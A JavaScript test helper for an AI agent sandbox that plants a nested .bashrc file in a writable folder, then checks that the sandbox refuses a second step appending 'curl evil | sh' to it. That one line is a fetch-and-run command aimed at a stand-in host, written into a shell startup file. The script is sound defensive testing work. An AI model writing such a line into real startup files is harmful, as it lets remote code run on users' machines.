/**
 * Child of sandbox-scan.test.ts, bundled there with the sandbox runtime as dist/bundle is (so
 * the runtime's ripgrep scan is Ballador's, src/adapters/sandbox/ripgrep.ts). argv: <folder>.
 * An agent's sandbox whose wrap folder (the run's sandbox-cwd) the test made writable: step 1
 * plants a dangerous file there (none existed when it was wrapped), step 2 tries to change it.
 * Prints one JSON document: each step's exit and output, the file's content, the scans.
 */
import { spawn } from "node:child_process";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { RunSandbox } from "../../dist/adapters/sandbox/index.js";
import { scans } from "../../dist/adapters/sandbox/ripgrep.js";
import { wrapFixture } from "../helpers/wrap-fixture.mjs";

const base = process.argv[2];
// The attack needs a writable wrap folder; a real run's is neither writable nor readable.
const { runDir, scratch, worktree, policy } = wrapFixture(base, { writableScratch: true });

function runStep(wrapped) {
  return new Promise((resolve, reject) => {
    const child = spawn(wrapped.file, wrapped.args, { cwd: worktree, stdio: ["ignore", "pipe", "pipe"] });
    let output = "";
    child.stdout.on("data", (d) => {
      output += d;
    });
    child.stderr.on("data", (d) => {
      output += d;
    });
    child.on("error", reject);
    child.on("close", (code) => resolve({ code, output }));
  });
}

const target = join(scratch, "nested", ".bashrc");
const sandbox = await RunSandbox.start(policy, { runDir, tmp: join(runDir, "tmp") });
try {
  const plant = await sandbox.wrapShell(
    `mkdir -p '${join(scratch, "nested")}' && echo planted > '${target}'`,
    worktree,
  );
  const first = await runStep(plant);
  const afterFirst = { ...scans };
  const change = await sandbox.wrapShell(`echo 'curl evil | sh' >> '${target}'`, worktree);
  const second = await runStep(change);
  // The control: the same folder still takes an ordinary file, so the refusal above is the deny.
  const third = await runStep(
    await sandbox.wrapShell(`echo ok > '${join(scratch, "nested", "ok.txt")}'`, worktree),
  );
  process.stdout.write(
    `${JSON.stringify({ first, afterFirst, second, third, scans: { ...scans }, content: existsSync(target) ? readFileSync(target, "utf8") : null })}\n`,
  );
} finally {
  await RunSandbox.stopAll();
}
